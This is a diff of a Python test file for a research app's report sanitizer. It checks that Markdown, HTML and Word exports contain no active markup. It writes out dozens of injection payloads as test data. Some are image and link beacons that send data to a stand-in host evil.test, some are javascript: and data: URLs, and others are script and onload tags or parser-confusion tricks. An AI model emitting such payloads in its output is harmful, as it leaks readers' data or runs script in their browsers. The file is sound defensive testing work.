@@ -1,29 +1,123 @@
-"""Whatever a model writes and a page calls itself, nothing in a report acts: checked with a parser that is not ours."""
+"""Nothing in a report is active, whatever models and pages write; checked with a parser that is not ours."""
 
 from __future__ import annotations
 
 import re
 import zipfile
+from collections.abc import Collection, Iterator
 from io import BytesIO
 from pathlib import Path
 from typing import Any
 
+import cmarkgfm
+import lxml.html
 import pytest
-from exported import standing
+from cmarkgfm.cmark import Options
 from hypothesis import given, settings
 from hypothesis import strategies as st
-from injections import INJECTIONS, active
-from lab import lab
-from page_check import faults
+from kit.reports import BLOCKS, TEXT_TAGS, faults, standing
+from kit.runs import lab
 
 from deep_research.app.export import export_content
-from deep_research.app.run_name import RunName
+from deep_research.app.settings import RunName
 from deep_research.core.evidence.citations.labels import labels
 from deep_research.core.evidence.citations.rendering import plain_citations, safe_link, write_document
 from deep_research.core.evidence.citations.sanitizing import sanitized, sanitized_at
 from deep_research.core.records.report import Report
 from deep_research.core.records.sources import Source
 from deep_research.state import ResearchState
+
+INJECTIONS = (
+    # Images
+    "![a](https://evil.test/i?d=S1)",
+    '![a](//evil.test/i?d=S2 "t\nt2")',
+    "![a](<https://evil.test/a b> 'x')",
+    "![a [b] `c`](https://evil.test/i.png)",
+    "![![a](https://evil.test/1)](https://evil.test/2)",
+    "!\\[a](https://evil.test/i) \\![a](https://evil.test/i)",
+    "![a]\\(https://evil.test) ![a](https://evil.test/\\(i\\))",
+    "**_![a](https://evil.test/i)_**",
+    "![a](data:image/svg+xml;base64,AAAA)",
+    "![a][x]\n\n[x]: https://evil.test/i",
+    "![x]\n\n[X]: <//evil.test/i> 'title'",
+    "![a][0](https://evil.test/i)",
+    # Links
+    "[a](https://evil.test/?q=secret)",
+    "[a](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(1))",
+    "[a](data:text/html,<script>alert(1)</script>)",
+    "[a](//evil.test) [b](/etc) [c](?q) [d](#sources)",
+    "[a](file:///etc/passwd) [b](vbscript:x)",
+    "[https://bank.test](https://evil.test)",
+    "[a\nb](https://evil.test\n'c\nd')",
+    "[[1]](https://evil.test) [1](https://evil.test) [[1], [2]](//evil.test)",
+    "[a](https&#58;//evil.test) [b](\\/\\/evil.test)",
+    "[**a** <b>c</b> ![d](//evil.test)](//evil.test)",
+    "[​a](//ｅｖｉｌ.test) [a](https://еvil.test)",
+    "【1】(https://evil.test) ［a］(https://evil.test)",
+    # Definitions and footnotes
+    "[1]: https://evil.test/first 'the register'\n\n[1] [a][1]",
+    "[a]: //evil.test\n[b]:\n   //evil.test\n   'title'\n\n[a] [b][] [c][A]",
+    "> [q]: https://evil.test\n\n[q]",
+    "- [l]: https://evil.test\n\n[l]",
+    "[^1]: one\n\n    <img src=https://evil.test/>\n\nSee[^1]",
+    "a[^x]\n\n[^x]: ![i](https://evil.test) https://evil.test",
+    # HTML
+    "<img src=https://evil.test/i?d=S3>",
+    "<script>fetch('//evil.test')</script>",
+    "<a href='https://evil.test'>b</a>",
+    "a <b\nonclick='x'>c</b> d",
+    "<!-- <img src=x> --> <!-- a\n\nb --> c",
+    "<!--\n\n# Hidden\n\n- [a](//evil.test)",
+    "<![CDATA[ <img src=//evil.test> ]]>",
+    "<?php echo 1 ?> <?xml-stylesheet href='//evil.test'?>",
+    "<!DOCTYPE html [<!ENTITY x '//evil.test'>]>",
+    "<details open>\n<summary>a</summary>\n\n![b](//evil.test)\n\n</details>",
+    "</div><iframe src=//evil.test></iframe>",
+    "<svg onload=alert(1)><style>@import '//evil.test'</style></svg>",
+    "<im[0]g src=//evil.test/i>",
+    "<im\x0bg src=//evil.test/i> <im\x00g src=x>",
+    "\\\\<img src=//evil.test> \\\\\\<img src=x>",
+    "<meta http-equiv=refresh content='0;url=//evil.test'>\n===\n",
+    "<div>\n```\n<b>\n```\n</div>\n\n<pre>\n`</pre><img src=//evil.test>`",
+    "&lt;img src=//evil.test&gt; &#60;b&#62;",
+    # Addresses without brackets
+    "https://evil.test/?q=secret HTTP://EVIL.test",
+    "<https://evil.test/> <mailto:a@evil.test> <a@evil.test> <x-app:run>",
+    "www.evil.test/?q=secret WWW.evil.test",
+    "mail a@evil.test, a\\@evil.test, a&#64;evil.test, b&commat;evil&#46;test, mailto:c@evil.test, xmpp:d@evil.test/x",
+    "ftp://evil.test/a //evil.test/b (https://evil.test) *https://evil.test*",
+    "`code` https://evil.test ` a@evil.test `` b@evil.test",
+    "$\\href{https://evil.test}{x}$ $$\\href{javascript:alert(1)}{y}$$",
+    # What hides markup from one parser and not from another
+    "| `a | <img src=//evil.test> |\n|---|---|\n| b | c` ![d](//evil.test) |",
+    "| a \\| ![b](//evil.test) | c |\n|---|---|\n| `\\|` <b> | [d\\|e](//evil.test) |",
+    "> " * 25 + "<img src=//evil.test>",
+    "- " * 40 + "![a](//evil.test)",
+    "```\n[a](//evil.test)\n``\n![b](//evil.test)\n```x\n",
+    "~~~ <img src=x>\n<img src=x>\n~~~\n<img src=x>",
+    "* ```\n<img src=//evil.test>\n",
+    "Title ![a](//evil.test)\n===\n\nSub <b>t</b>\n---",
+    "1. a\n\n       <img src=x>\n\n   <img src=//evil.test>\n\n\t<img src=x>",
+    "-\t![a](//evil.test)\n\n \t <img src=//evil.test>",
+    "a  \n![b](//evil.test)\\\n<img src=x>\r\n![c](//evil.test)\r![d](//evil.test)",
+    "[[1], [2]](//evil.test) [a [1] b](//evil.test 't') [[1]]( <//evil.test> )",
+    "![a][x]\n\n[x]: https://evil.test/i(\n\n[y]: //evil.test)\n\n[y] ![b][y]",
+)
+"""Texts of which a reader would load, open or hide something, in one dialect of Markdown or another."""
+
+
+def active(markdown: str, links: Collection[str] = ()) -> Iterator[str]:
+    """What of a text acts, by the reference parser of CommonMark and by GitHub's; a link may lead to one of `links`."""
+    unsafe = Options.CMARK_OPT_UNSAFE
+    plain = cmarkgfm.markdown_to_html(markdown, unsafe)
+    github = cmarkgfm.github_flavored_markdown_to_html(markdown, unsafe | Options.CMARK_OPT_FOOTNOTES)
+    for html in (plain, github):
+        for element in lxml.html.fragment_fromstring(html.replace("\x0c", ""), create_parent="div").iterdescendants():
+            is_box = element.tag == "input" and element.get("disabled") is not None
+            is_link = element.tag == "a" and element.get("href") in links
+            if element.tag not in TEXT_TAGS | BLOCKS | {"del"} and not is_box and not is_link:
+                yield lxml.html.tostring(element, encoding="unicode", with_tail=False)
+
 
 NAME = RunName("0", None)
 PLACES = (
@@ -41,7 +135,7 @@ INERT = (
 
 
 def external(document: bytes) -> set[str]:
-    """Where a Word document leads."""
+    """The external links of a Word document."""
     with zipfile.ZipFile(BytesIO(document)) as parts:
         relations = [parts.read(name).decode() for name in parts.namelist() if name.endswith(".rels")]
         assert not [name for name in parts.namelist() if "media" in name]
@@ -56,7 +150,7 @@ async def run_with(tmp_path: Path, text: str, **settings: Any) -> ResearchState:
     (folder / "light.md").write_text(f"# {line}\n\nThe Skerry Light was lit in 1844. {text}\n", errors="replace")
     made = lab(tmp_path, writer=[PLACES.format(line=line, text=text)] * 2, **settings)
     made.folder = folder
-    # A number in a link is streamed as it is written.
+    # Numbers in links are streamed unchanged.
     made.expected = "are cited before they are announced"
     return await made.ask()
 
@@ -70,12 +164,12 @@ def check_ways_out(state: ResearchState) -> None:
     shown = standing(state.report)._replace(state=state)
     assert not [*active(str(export_content(shown, "md", NAME)), links)]
     page = str(export_content(shown, "html", NAME))
-    assert not [one for one in faults(page) if one not in {f"leads to {link}" for link in links}]
+    assert {*faults(page)} <= {f"leads to {link}" for link in links}
     document = export_content(shown, "docx", NAME)
     assert isinstance(document, bytes) and external(document) <= links
 
 
-# Each alone is sanitized by the tests of any text below; in whole runs, a few stand for all.
+# The property tests below sanitize each injection; whole runs use a few of them.
 FEW = [
     number if number % 12 == 0 else pytest.param(number, marks=pytest.mark.slow) for number in range(len(INJECTIONS))
 ]
@@ -90,7 +184,7 @@ async def test_nothing_that_a_model_or_a_document_injects_acts_in_any_form_of_th
 
 
 @pytest.mark.parametrize("text", INERT)
-def test_what_does_not_act_stays_byte_for_byte(text: str) -> None:
+def test_inert_text_stays_byte_for_byte(text: str) -> None:
     assert sanitized(text) == text
     assert not [*active(text)]
 
@@ -106,20 +200,20 @@ def test_what_does_not_act_stays_byte_for_byte(text: str) -> None:
         ("info@harbour.test, www.harbour.test", "info`@`harbour.test, www\\.harbour.test"),
     ],
 )
-def test_only_what_acts_is_written_anew(text: str, inert: str) -> None:
+def test_only_active_markup_is_rewritten(text: str, inert: str) -> None:
     assert sanitized(text) == inert
 
 
-def test_of_all_links_only_the_numbers_of_sources_stay() -> None:
+def test_only_links_of_source_numbers_stay() -> None:
     links = {"1": "file:///a.md", "2": "https://b.test"}
     assert sanitized("[1] [2], `[1]` [3] [a][2] ![1] [1][2]", links) == "[1] [2], `[1]` [3] a 1 1"
 
 
-def test_places_of_a_text_are_found_again_in_it() -> None:
+def test_offsets_of_a_text_are_mapped() -> None:
     text = "One <b>. Two [three](//evil.test). Four."
     starts = [text.index(word) for word in ("One", "Two", "three", "Four")]
     inert = sanitized_at(text, starts)
-    assert [inert.text[place : place + 3] for place in inert.places] == ["One", "Two", "thr", "Fou"]
+    assert [inert.text[start : start + 3] for start in inert.positions] == ["One", "Two", "thr", "Fou"]
 
 
 @pytest.mark.slow
@@ -128,7 +222,7 @@ def test_places_of_a_text_are_found_again_in_it() -> None:
 )
 @pytest.mark.timeout(20)
 def test_no_text_takes_long(piece: str) -> None:
-    # What takes the square of the length is cut off by the limit of the test.
+    # Quadratic time exceeds the timeout.
     assert sanitized(piece * (20_000 // len(piece)))
 
 
@@ -138,7 +232,7 @@ PIECES = [
     *("<img src=//e.co>", "![", "](", "](//e.co)", "a@e.co", "www.e.co", "https://e.co", "[x]: //e.co", "<!--", "-->"),
     *("| a | b |\n|---|---|\n", "```", "~~~", "<div>", "</div>", "[^1]:", "\\href", "<b>", "&lt;", "&#64;", "===\n"),
 ]
-# Behind backticks of several lengths GitHub's parser takes some code for text; see docs/decisions/rendering.md.
+# Behind backticks of several lengths GitHub's parser takes some code for text; see docs/decisions/web.md.
 MIXED = [text for text in INJECTIONS if not ("@" in text and "``" in text)]
 TEXTS = st.lists(st.sampled_from(PIECES) | st.sampled_from(MIXED) | st.text(max_size=3), max_size=14).map("".join)
 
@@ -146,7 +240,7 @@ TEXTS = st.lists(st.sampled_from(PIECES) | st.sampled_from(MIXED) | st.text(max_
 @pytest.mark.fault("R15")
 @settings(derandomize=True)
 @given(TEXTS)
-def test_no_text_acts_when_it_is_sanitized_and_once_is_enough(text: str) -> None:
+def test_any_sanitized_text_is_inert_and_stable(text: str) -> None:
     inert = sanitized(text)
     assert not [*active(inert)] and not [*active(plain_citations(inert))]
     assert sanitized(inert) == inert
@@ -155,11 +249,11 @@ def test_no_text_acts_when_it_is_sanitized_and_once_is_enough(text: str) -> None
 @pytest.mark.fault("R15")
 @settings(derandomize=True)
 @given(TEXTS, TEXTS, TEXTS, TEXTS)
-def test_no_text_title_address_or_note_acts_in_a_document(text: str, title: str, rest: str, note: str) -> None:
+def test_any_text_title_address_and_note_is_inert_in_a_document(text: str, title: str, rest: str, note: str) -> None:
     location = f"https://host.test/{rest}"
     cited = [
-        Source(key=place, title=title, location=place, address=place, kind="web", content_hash="c", date=rest[:9])
-        for place in (location, rest or "x")
+        Source(key=url, title=title, location=url, address=url, kind="web", content_hash="c", date=rest[:9])
+        for url in (location, rest or "x")
     ]
     report = Report(text=text, sources=tuple(source.key for source in cited))
     document = write_document(report, cited, [note], labels("en"), was_researched=True)
